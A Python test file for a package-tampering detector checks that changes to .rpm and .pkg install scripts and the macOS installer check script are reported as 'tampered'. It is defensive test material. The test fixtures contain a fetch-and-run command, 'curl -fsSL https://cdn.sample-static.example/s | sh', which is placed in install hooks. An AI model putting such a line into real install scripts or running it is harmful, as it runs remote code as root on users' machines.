#!/usr/bin/env python3
"""Scripts that package managers run are named with their trigger, ordinary changes of them are clean.
containers.py ASSAY [NAME...]; what holds for every kind of container is in kinds.py."""

import os
import sys
import tempfile

from releases import ROOT, base, changed, main, why, write_folder

sys.path.insert(0, os.path.join(ROOT, "tests", "make"))

import containers  # noqa: E402

HOST = "cdn.sample-static.example"
POSTINST = "#!/bin/sh\nset -e\nexit 0\n"
INSTALL_TAMPER = "#!/bin/sh\nset -e\ncurl -fsSL https://%s/s | sh\nexit 0\n" % HOST


def made(kind, name, tree, extra=None, **options):
    """A release: a folder of files in a container of this kind."""
    with tempfile.TemporaryDirectory() as folder:
        root = os.path.join(folder, "root")
        os.makedirs(root)
        write_folder(dict(tree, **(extra or {})), root)
        os.chmod(root, 0o755)
        target = os.path.join(os.getcwd(), name + kind)
        if os.path.exists(target):
            os.unlink(target)
        containers.MAKERS[kind](root, target, **options)
    return target


def install_script(kind, script_name, member, when):
    """A script that the package manager runs: what is added to it is named, with its trigger."""
    def test(assay):
        def release(name, script, tree):
            return made(kind, name, tree, {"DEBIAN/" + script_name: (script.encode(), 0o755)})

        old = release("sample-1.0.0", POSTINST, base())
        answer = assay.ask(old, release("sample-1.0.1", POSTINST.replace("exit 0", "echo done\nexit 0"), changed()))
        assert answer["verdict"] == "clean", why(answer)
        answer = assay.ask(old, release("sample-1.0.1", INSTALL_TAMPER, changed()))
        assert answer["verdict"] == "tampered", why(answer)
        found = [f for f in answer["findings"] if f["where"]["member"].endswith(member)]
        assert found and HOST in str(found), why(answer)
        assert any(f.get("runs") in (when, "when the package is installed") for f in found), found

    test.__name__ = "%s%s" % (script_name, kind.replace(".", "_"))
    return test


def installer_check(assay):
    """The script that the installer of macOS asks before anything is installed."""
    old = made(".pkg", "sample-1.0.0", base())
    new = made(".pkg", "sample-1.0.1", changed(), version="1.0.1", check="system.log('checking');")
    answer = assay.ask(old, new)
    assert answer["verdict"] == "clean", why(answer)
    new = made(".pkg", "sample-1.0.1", changed(), version="1.0.1",
               check="system.run('/bin/sh', '-c', 'curl -fsSL https://%s/s | sh');" % HOST)
    answer = assay.ask(old, new)
    assert answer["verdict"] == "tampered", why(answer)
    found = [f for f in answer["findings"] if f["where"]["member"].endswith("[distribution script].js")]
    assert found and HOST in str(found), why(answer)
    assert any("installer opens" in (f.get("runs") or "") for f in found), found


def script_by_other_name(assay):
    """Only PackageInfo says that it runs."""
    def release(name, version, script):
        return made(".pkg", name, base(), {"DEBIAN/postinst": (script.encode(), 0o755)}, version=version,
                    script_names={"postinst": "finish"})

    old = release("sample-1.0.0", "1.0.0", POSTINST)
    answer = assay.ask(old, release("sample-1.0.1", "1.0.1", POSTINST.replace("exit 0", "echo done\nexit 0")))
    assert answer["verdict"] == "clean", why(answer)
    answer = assay.ask(old, release("sample-1.0.1", "1.0.1", INSTALL_TAMPER))
    assert answer["verdict"] == "tampered", why(answer)
    found = [f for f in answer["findings"] if f["where"]["member"].endswith("Scripts!/finish")]
    assert any("installed" in (f.get("runs") or "") for f in found), found


TESTS = [install_script(*row) for row in (
    (".rpm", "preinst", "[scriptlets]/pre", "before the package is installed, as root"),
    (".rpm", "postinst", "[scriptlets]/post", "after the package is installed, as root"),
    (".rpm", "prerm", "[scriptlets]/preun", "before the package is removed, as root"),
    (".rpm", "postrm", "[scriptlets]/postun", "after the package is removed, as root"),
    (".pkg", "preinst", "Scripts!/preinstall", "before the package is installed, as root"),
    (".pkg", "postinst", "Scripts!/postinstall", "after the package is installed, as root"))]
TESTS += [installer_check, script_by_other_name]

if __name__ == "__main__":
    sys.exit(main(TESTS, sys.argv))
